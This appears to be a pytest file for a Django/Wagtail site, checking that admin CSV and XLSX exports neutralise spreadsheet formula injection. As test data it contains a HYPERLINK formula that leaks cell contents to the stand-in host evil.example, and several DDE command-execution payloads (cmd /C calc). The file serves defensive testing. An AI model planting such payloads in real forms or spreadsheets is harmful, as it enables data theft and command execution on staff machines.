"""Admin CSV downloads never hand a live formula to staff's spreadsheet (issue #12, item 3).

Each test puts attacker-chosen text where citizens or members really write it (the public
nomination form, a page title, the site search) and downloads the real CSV as staff.
"""

import csv
import datetime as dt
import io

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from core.exports import FORMULA_PREFIXES, neutralise_cell
from guides.factories import GuidePageFactory
from recognition.models import Nomination, NominationPage

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


@pytest.fixture
def nomination_page(world):
    page = NominationPage(title="Indstil en ildsjæl", slug="indstil-en-ildsjael")
    world.home.add_child(instance=page)
    return page


@pytest.fixture
def attacker_nomination(client, world, nomination_page):
    """A nomination sent through the public form, the way an attacker would send it."""
    response = client.post(
        nomination_page.url,
        {
            "nominee_name": ATTACK,
            "association": str(world.association_a.pk),
            "association_name": "",
            "reason": "@SUM(1+1)*cmd|' /C calc'!A0",
            "nominator_name": "-2+3+cmd|' /C calc'!A0",
            "nominator_email": "jens@example.com",
            "nominator_phone": "+45 43 97 97 00",
            "homepage": "",
        },
    )
    assert response.status_code == 302
    return Nomination.objects.get(nominee_name=ATTACK)


def test_nominations_csv_shows_the_formula_as_text(client, world, attacker_nomination):
    client.force_login(world.moderator)
    rows = csv_rows(client.get(reverse("nominations:index"), {"export": "csv"}))
    row = next(r for r in rows[1:] if ATTACK in r[0])
    assert row[0] == "'" + ATTACK
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in row
    assert "'-2+3+cmd|' /C calc'!A0" in row
    # A phone number in international notation is kept readable, only made inert.
    assert "'+45 43 97 97 00" in row
    # Ordinary values are untouched.
    assert "jens@example.com" in row


def test_nominations_xlsx_stores_the_formula_as_a_string(client, world, attacker_nomination):
    client.force_login(world.moderator)
    response = client.get(reverse("nominations:index"), {"export": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    attack_cell = next(cell for cell in cells if cell.value == ATTACK)
    # Unchanged text (no quote added), stored as a string, not as a formula.
    assert attack_cell.data_type == "s"
    assert not any(cell.data_type == "f" for cell in cells)


def test_overdue_guides_csv_shows_a_formula_title_as_text(client, world):
    GuidePageFactory(
        parent=world.guide_index,
        title="=1+2 Tilskud til foreninger",
        last_reviewed=dt.date(2020, 1, 1),
        review_interval_months=12,
    )
    client.force_login(world.moderator)
    rows = csv_rows(client.get("/admin/reports/overdue-guides/", {"export": "csv"}))
    assert [r[0] for r in rows[1:] if "Tilskud" in r[0]] == ["'=1+2 Tilskud til foreninger"]


def test_site_history_csv_shows_a_members_formula_title_as_text(client, world):
    """Wagtail's own report: a member's draft title reaches staff through the audit log."""
    page = world.activity_a
    page.title = "+cmd|' /C calc'!A0"
    page.save_revision(user=world.member_a, log_action=True)
    client.force_login(world.moderator)
    rows = csv_rows(client.get(reverse("wagtailadmin_reports:site_history"), {"export": "csv"}))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'+cmd|' /C calc'!A0" in cells
    assert "+cmd|' /C calc'!A0" not in cells


def test_search_terms_csv_shows_a_citizens_formula_query_as_text(client, django_user_model):
    """Anonymous visitors choose the search terms that the superusers' report lists."""
    client.get("/soeg/", {"q": ATTACK})
    admin = django_user_model.objects.create_superuser("admin", "a@example.dk", "pw")
    client.force_login(admin)
    response = client.get(reverse("wagtailsearchpromotions:search_terms"), {"export": "csv"})
    cells = [row[0] for row in csv_rows(response)[1:]]
    assert cells, "the search was not recorded"
    assert all(not cell.startswith(FORMULA_PREFIXES) for cell in cells)
    assert any(cell.lower().startswith("'=hyperlink(") for cell in cells)


def _export_views(patterns, prefix=""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            yield from _export_views(pattern.url_patterns, prefix + str(pattern.pattern))
        elif isinstance(pattern, URLPattern):
            view_class = getattr(pattern.callback, "view_class", None)
            if view_class and issubclass(view_class, SpreadsheetExportMixin):
                yield prefix + str(pattern.pattern), view_class


def test_every_spreadsheet_export_in_the_urlconf_goes_through_the_helper():
    """A view that bypassed the mixin's value hook would write raw cells; none may."""
    views = list(_export_views(get_resolver().url_patterns))
    assert len(views) >= 10  # reports, listings, nominations, search terms, redirects, forms
    for route, view_class in views:
        hook = view_class.preprocess_field_value
        assert getattr(hook, "neutralises_formulas", False), route
        assert view_class.write_csv_row is SpreadsheetExportMixin.write_csv_row, route
        assert view_class.stream_csv is SpreadsheetExportMixin.stream_csv, route


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_neutralise_cell_quotes_each_formula_prefix(prefix):
    assert neutralise_cell(prefix + "1+1") == "'" + prefix + "1+1"


@pytest.mark.parametrize(
    "value", ["Birthe Nielsen", "", " =1", "'=1", 42, -5, None, dt.date(2026, 1, 1)]
)
def test_neutralise_cell_leaves_other_values_alone(value):
    assert neutralise_cell(value) == value
